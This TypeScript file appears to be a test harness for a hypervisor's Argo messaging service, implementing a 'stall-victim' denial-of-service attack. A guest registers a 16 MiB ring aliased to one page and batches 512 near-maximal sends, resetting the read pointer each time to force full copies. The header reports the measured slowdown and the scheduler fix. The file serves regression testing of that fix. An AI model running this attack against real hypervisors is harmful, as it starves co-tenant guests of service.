// SPDX-License-Identifier: Apache-2.0
/**
 * Stall the victim: a guest registers a 16 MiB ring whose gfns all repeat one page (one page of
 * quota) and sends itself, in one batch, 512 messages of almost 16 MiB, each followed by a
 * write that marks the ring read again (rx_ptr := tx_ptr), so every send copies its full length.
 * Measured on the unfixed service: the batch ran to completion before anything else, cutting a
 * victim pair from a median 331 to 36 msgs/s (max latency 1.7 s). The scheduler counts each
 * send by the bytes it copies, so the batch now yields to other domains every slice.
 */
import { SessionClient, type HypercallOp } from "@hmx/guest-agent";
import {
  ARGO_DOMID_ANY,
  ARGO_MSG_HEADER_SIZE,
  ARGO_RING_HEADER_SIZE,
  FIRST_GUEST_GFN,
  PAGE_SIZE,
  npagesRing,
} from "@hmx/proto/abi";
import { attackerDomain, seededRandom, type HostileAttack } from "./attack.js";

export const STALL_SENDS = 512;
/** The largest ring Argo allows. */
export const STALL_RING_LEN = 0xffffc0;
/** The largest message that fits it. */
export const STALL_MESSAGE_BYTES = STALL_RING_LEN - 0xc0;
const RING_APORT = 7;

/** tx_ptr after one more message of `payload` bytes (ring-buffer.ts's arithmetic). */
function nextTx(tx: number, payload: number): number {
  const slot = ARGO_MSG_HEADER_SIZE + ((payload + 15) & ~15);
  return (tx + slot) % STALL_RING_LEN;
}

export const stallVictim: HostileAttack = {
  name: "stall-victim",
  kind: "guest",
  async launch(target, seed) {
    const random = seededRandom(seed);
    const attacker = await attackerDomain(target, `stall-victim-${seed}`);
    const client = await SessionClient.connect({
      address: target.listen,
      credential: attacker.credential,
    });
    const ringGpa = FIRST_GUEST_GFN * PAGE_SIZE;
    await client.writeMemory(ringGpa, Buffer.alloc(ARGO_RING_HEADER_SIZE));
    const gfns = Array<number>(npagesRing(STALL_RING_LEN)).fill(FIRST_GUEST_GFN);
    const registered = await client.registerRing({
      aport: RING_APORT,
      partnerId: attacker.domid,
      len: STALL_RING_LEN,
      gfns,
      flags: 0,
    });
    if (registered !== 0)
      throw new Error(`stall-victim: RegisterRing of the aliased ring returned ${registered}`);
    const ops: HypercallOp[] = [];
    let tx = 0;
    for (let i = 0; i < STALL_SENDS; i++) {
      ops.push({
        op: "sendv",
        src: { aport: 1, domainId: ARGO_DOMID_ANY },
        dst: { aport: RING_APORT, domainId: attacker.domid },
        // Seeded source offsets: the bytes differ, the cost does not.
        iovs: [{ gpa: ringGpa + Math.floor(random() * 64) * PAGE_SIZE, len: STALL_MESSAGE_BYTES }],
        messageType: 0,
      });
      tx = nextTx(tx, STALL_MESSAGE_BYTES);
      const rxPtr = Buffer.alloc(4);
      rxPtr.writeUInt32LE(tx);
      ops.push({ op: "writeMemory", gpa: ringGpa, data: rxPtr });
    }
    let copied = 0;
    let refused = 0;
    const finished = client.batch(ops).then((outcomes) => {
      for (const o of outcomes) {
        if (o.op !== "sendv") continue;
        if (o.ret > 0) copied++;
        else refused++;
      }
    });
    return {
      finished,
      facts: () => ({ sends: STALL_SENDS, copied, refused }),
      stop: () => client.close(),
    };
  },
};
